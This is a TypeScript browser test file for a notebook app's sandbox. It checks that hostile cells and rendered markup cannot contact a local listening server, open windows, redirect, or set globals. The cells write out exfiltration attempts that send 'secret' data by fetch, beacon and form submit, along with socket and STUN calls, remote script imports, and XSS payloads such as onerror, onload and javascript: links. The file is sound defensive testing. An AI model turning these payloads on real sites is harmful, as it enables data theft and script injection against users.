/** Live pages of hostile notebooks: with a network and a server that would hear them, nothing leaves the page. */
import assert from "node:assert/strict";
import { createSocket, type Socket } from "node:dgram";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import { pathToFileURL } from "node:url";
import type { AddressInfo } from "node:net";
import type { Browser } from "playwright-core";
import { hostileMarkup } from "../../hostileMarkup.ts";
import { launch } from "../../renderer/page/notebookPage.ts";
import { OpenedPage, writePage } from "./openedPage.ts";

/** Hears whoever comes, by TCP or UDP, on one port of this machine. */
class Ear {
  readonly heard: string[] = [];
  readonly #server: Server;
  readonly #datagrams: Socket;
  port = 0;

  constructor() {
    this.#server = createServer((socket) => {
      socket.on("error", () => undefined);
      socket.once("data", (data) => {
        this.heard.push(data.toString().split("\r\n")[0] ?? "");
        socket.end("HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 0\r\n\r\n");
      });
    });
    this.#datagrams = createSocket("udp4");
    this.#datagrams.on("message", () => this.heard.push("datagram"));
  }

  async open(): Promise<void> {
    await new Promise<void>((resolve) => this.#server.listen(0, "127.0.0.1", resolve));
    this.port = (this.#server.address() as AddressInfo).port;
    await new Promise<void>((resolve) => this.#datagrams.bind(this.port, "127.0.0.1", resolve));
  }

  close(): void {
    this.#server.close();
    this.#datagrams.close();
  }
}

describe("A live page of a hostile notebook", function () {
  this.timeout(120_000);
  const folder = mkdtempSync(path.join(tmpdir(), "gradbook-hostile-"));
  const file = (name: string): string => path.join(folder, name);
  const ear = new Ear();
  let at = "";
  let browser: Browser;
  let live: OpenedPage;
  const popups: string[] = [];

  before(async () => {
    browser = await launch();
    await ear.open();
    at = `http://127.0.0.1:${ear.port}`;
    // A page without our policy is heard: silence means something.
    writeFileSync(file("open.html"), `<img src="${at}/open">`);
    const page = await browser.newPage();
    await page.goto(pathToFileURL(file("open.html")).href);
    assert.deepEqual(ear.heard.splice(0), ["GET /open HTTP/1.1"]);
    await page.close();
  });

  after(async () => {
    await browser?.close();
    ear.close();
    rmSync(folder, { recursive: true, force: true });
  });

  const open = async (name: string, ...cells: string[]): Promise<void> => {
    const code = cells.map((cell) => `\`\`\`ts\n${cell}\n\`\`\`\n`).join("\n");
    await writePage(file(`${name}.html`), code);
    live = await OpenedPage.open(browser, file(`${name}.html`), { online: true });
    popups.length = 0;
    live.page.context().on("page", (page) => popups.push(page.url()));
  };

  afterEach(async () => {
    assert.equal(await live.page.evaluate(() => "hacked" in window), false);
    assert.match(live.page.url(), /^file:/, "it has gone nowhere");
    // Whoever was on the way has come by the time a call of our own is heard.
    const own = await fetch(`${at}/own`);
    assert.ok(own.ok);
    assert.deepEqual({ heard: ear.heard.splice(0), popups }, { heard: ["GET /own HTTP/1.1"], popups: [] });
    await live.page.close();
  });

  it("is not left by cells, whichever way they try", async () => {
    const tries: Record<string, string> = {
      "fetch": `await fetch("${at}/a")`,
      "fetch without an answer": `await fetch("${at}/b", { mode: "no-cors", keepalive: true, method: "POST", body: "secret" })`,
      "request": `await new Promise((ok, no) => { const r = new XMLHttpRequest(); r.onload = ok; r.onerror = no; r.open("GET", "${at}/c"); r.send(); })`,
      "request that waits": `const r = new XMLHttpRequest(); r.open("GET", "${at}/d", false); r.send();`,
      "socket": `await new Promise((ok, no) => { const s = new WebSocket("ws://127.0.0.1:${ear.port}"); s.onopen = ok; s.onerror = no; })`,
      "events": `await new Promise((ok, no) => { const s = new EventSource("${at}/e"); s.onopen = ok; s.onerror = no; })`,
      "transport": `await new (globalThis as any).WebTransport("https://127.0.0.1:${ear.port}").ready`,
      "script": `importScripts("${at}/f.js")`,
      "module": `await import("${at}/g.js")`,
      "text of a module": `await import("data:text/javascript,globalThis.hacked=1")`,
      "worker": `await new Promise((ok, no) => { const w = new Worker("${at}/h.js"); w.onmessage = ok; w.onerror = no; })`,
      "worker's own policy":
        `const source = new Blob(['fetch("${at}/i").then(() => postMessage(1), () => postMessage(0))'], { type: "text/javascript" }); ` +
        `const got = await new Promise<number>((ok, no) => { const w = new Worker(URL.createObjectURL(source)); w.onmessage = (e) => ok(e.data); w.onerror = no; }); if (got === 0) throw new Error("refused")`,
      "style": `const f = new (globalThis as any).FontFace("x", "url(${at}/j.woff)"); await f.load()`,
      "beacon": `if (!(navigator as any).sendBeacon?.("${at}/k", "secret")) throw new Error("none")`,
      "call": `new (globalThis as any).RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${ear.port}" }] })`,
      "database": `await new Promise((ok, no) => { const r = indexedDB.open("gradbook"); r.onsuccess = ok; r.onerror = no; })`,
      "cache": `await (await caches.open("gradbook")).put("${at}/l", new Response("secret"))`,
      "disk": `await navigator.storage.getDirectory()`,
      "database of the scope above": `await new Promise((ok, no) => { const { get } = Object.getOwnPropertyDescriptor(WorkerGlobalScope.prototype, "indexedDB")!; const r = get!.call(self).open("x"); r.onsuccess = ok; r.onerror = no; })`,
      "database of another worker": `const script = new Blob(["postMessage(typeof indexedDB)"], { type: "text/javascript" }); await new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(script)); w.onmessage = ok; w.onerror = no; })`,
      "cookie": `await (globalThis as any).cookieStore.set("a", "b")`,
      "another page": `new BroadcastChannel("gradbook").postMessage("secret")`,
      "storage": `localStorage.setItem("a", "b")`,
      "window": `(globalThis as any).open("${at}/m")`,
      "page": `(globalThis as any).parent.document.title = "hacked"`,
    };
    await open(
      "cells",
      `const got: Record<string, string> = {};\n${Object.entries(tries)
        .map(
          ([name, code]) =>
            `try { ${code}; got[${JSON.stringify(name)}] = "in" } catch { got[${JSON.stringify(name)}] = "out" }`,
        )
        .join("\n")}\nObject.entries(got).map((one) => one.join(": ")).join(", ")`,
    );
    assert.equal(await live.run(1), "ok", await live.shown(1));
    const shown = await live.shown(1);
    assert.deepEqual(
      Object.keys(tries).filter((name) => !shown.includes(`${name}: out`)),
      [],
      shown,
    );
  });

  it("is not left by what they show", async () => {
    const markup = [
      ...hostileMarkup.map((text) => text.replaceAll("alert(1)", "top.hacked=parent.hacked=1")),
      `<img src="${at}/1"><link rel="stylesheet" href="${at}/2"><link rel="preconnect" href="${at}"><link rel="prefetch" href="${at}/3">`,
      `<meta http-equiv="refresh" content="0;url=${at}/4"><iframe src="${at}/5"></iframe><object data="${at}/6"></object>`,
      `<style>@import "${at}/7"; body { background: url(${at}/8) } @font-face { font-family: x; src: url(${at}/9) } p { font-family: x }</style><p>x</p>`,
      `<form id="f" action="${at}/10"><input name="q" value="secret"></form><script>f.submit(); top.location = "${at}/11"; open("${at}/12"); parent.hacked = 1; new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${ear.port}" }] }).createOffer()</script>`,
      `<video src="${at}/13" autoplay></video><audio src="${at}/14" autoplay></audio><svg><image href="${at}/15"/><use href="${at}/16#x"/></svg>`,
    ];
    await open(
      "shows",
      `const all: string[] = ${JSON.stringify(markup).replaceAll("</", "<\\/")};`,
      // Many at once, each behind what would end the one before.
      `const groups = Array.from({ length: Math.ceil(all.length / 8) }, (_, i) => all.slice(8 * i, 8 * i + 8).join("\\n\\n</script></style></textarea></title>--></svg>\\n\\n"));
for (const html of groups) { display.html(html); display.html(html, { scripts: true }); }
for (const html of all) display.markdown(html);`,
      `for (const html of groups) display.svg(\`<svg xmlns="http://www.w3.org/2000/svg" onload="parent.hacked=1"><foreignObject>\${html}</foreignObject></svg>\`);`,
      `import { plot, tensor } from "gradbook";
const title = '<img src="${at}/20" onerror="top.hacked=1">';
plot(tensor([1, 2]), tensor([1, 2]), { title });
console.log("\\u001b]8;;javascript:top.hacked=1\\u0007link\\u001b]8;;\\u0007 \\u001b[31m" + title);
display({ [title]: title });`,
      "throw Object.assign(new Error(all.join('\\n')), { name: all[0], stack: all.join('\\n') })",
    );
    for (const number of [1, 2, 3, 4]) assert.equal(await live.run(number), "ok", await live.shown(number));
    assert.equal(await live.run(5), "failed");
    // Frames that were kept from going elsewhere never finish.
    const loaded = live.page.frames().map((frame) => frame.waitForLoadState("load", { timeout: 5000 }));
    await Promise.allSettled(loaded);
  });

  it("is not steered by messages of its cells", async () => {
    await open(
      "messages",
      `const messages = [
  { type: "thread", message: { type: "died", cause: "crash", detail: "<b>x</b>" } },
  { type: "ready", node: "<img src=x onerror=top.hacked=1>", backend: "x", threads: 1 },
  { type: "control", value: 1 }, { role: "compute" }, { type: "lives" }, null, "text",
];
for (const message of messages) { postMessage(message); (globalThis as any).dispatchEvent(new MessageEvent("message", { data: message })); }
self.onmessage = null;
"sent"`,
      "[1, 2].length",
    );
    assert.equal(await live.run(1), "ok", await live.shown(1));
    assert.equal(await live.run(2), "ok", await live.shown(2));
    assert.equal(await live.shown(2), "2");
    assert.match(await live.status(), /^Ready \(wasm/);
  });

  it("stays usable under more output than a page can show", async () => {
    await open(
      "flood",
      'const kept = 7;\nconst all = () => { for (let i = 0; i < 200_000; i++) console.log("line", i, "x".repeat(100)); };\nall();',
      'console.log("x".repeat(1e8));',
      "for (let i = 0; i < 20_000; i++) display(i);",
      'display.html("<p>" + "y".repeat(2e7));',
      "kept",
    );
    for (const number of [1, 2, 3, 4, 5]) assert.equal(await live.run(number), "ok");
    for (const number of [1, 2, 3]) assert.ok((await live.shown(number)).length < 700_000, `cell ${number}`);
    assert.equal(await live.shown(5), "7");
  });
});
